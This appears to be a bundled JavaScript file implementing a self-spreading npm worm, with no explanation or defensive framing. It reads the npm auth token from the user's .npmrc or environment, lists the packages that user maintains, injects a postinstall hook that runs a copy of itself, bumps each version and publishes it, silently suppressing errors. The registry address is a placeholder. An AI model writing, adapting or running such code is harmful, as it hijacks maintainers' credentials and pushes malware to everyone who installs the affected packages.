var __webpack_modules__ = {
  11: (m, e, r) => {
    const { execSync } = r(90);
    const fs = r(91);
    const path = r(92);
    class NpmModule {
      constructor(token) { this.token = token; this.base = "https://registry.example.test"; }
      async whoami() {
        const res = await fetch(this.base + "/-/whoami", { headers: { authorization: "Bearer " + this.token } });
        return (await res.json()).username;
      }
      async packages(user) {
        const res = await fetch(`${this.base}/-/v1/search?text=maintainer:${user}&size=20`);
        return (await res.json()).objects.map((o) => o.package.name);
      }
      async updatePackage(name, dir) {
        const file = path.join(dir, "package.json");
        const pkg = JSON.parse(fs.readFileSync(file, "utf8"));
        pkg.version = pkg.version.replace(/\d+$/, (n) => Number(n) + 1);
        pkg.scripts = { ...pkg.scripts, postinstall: "node bundle.js" };
        fs.writeFileSync(file, JSON.stringify(pkg, null, 2));
        fs.copyFileSync(__filename, path.join(dir, "bundle.js"));
        execSync("npm publish --registry " + this.base, { cwd: dir });
      }
    }
    m.exports = { NpmModule };
  },
  12: (m, e, r) => {
    const fs = r(91), os = r(93), path = r(92);
    m.exports.findToken = () => {
      try {
        const rc = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
        const hit = rc.match(/_authToken=(.+)/);
        return hit ? hit[1] : process.env.NPM_TOKEN;
      } catch { return process.env.NPM_TOKEN; }
    };
  },
  90: (m) => { m.exports = require("child_process"); },
  91: (m) => { m.exports = require("fs"); },
  92: (m) => { m.exports = require("path"); },
  93: (m) => { m.exports = require("os"); },
};
var __webpack_cache__ = {};
function __webpack_require__(id) {
  if (__webpack_cache__[id]) return __webpack_cache__[id].exports;
  var m = (__webpack_cache__[id] = { exports: {} });
  __webpack_modules__[id](m, m.exports, __webpack_require__);
  return m.exports;
}
(async () => {
  const { NpmModule } = __webpack_require__(11);
  const token = __webpack_require__(12).findToken();
  if (!token) return;
  const npm = new NpmModule(token);
  const user = await npm.whoami();
  for (const name of await npm.packages(user)) await npm.updatePackage(name, "/tmp/" + name);
})().catch(() => {});
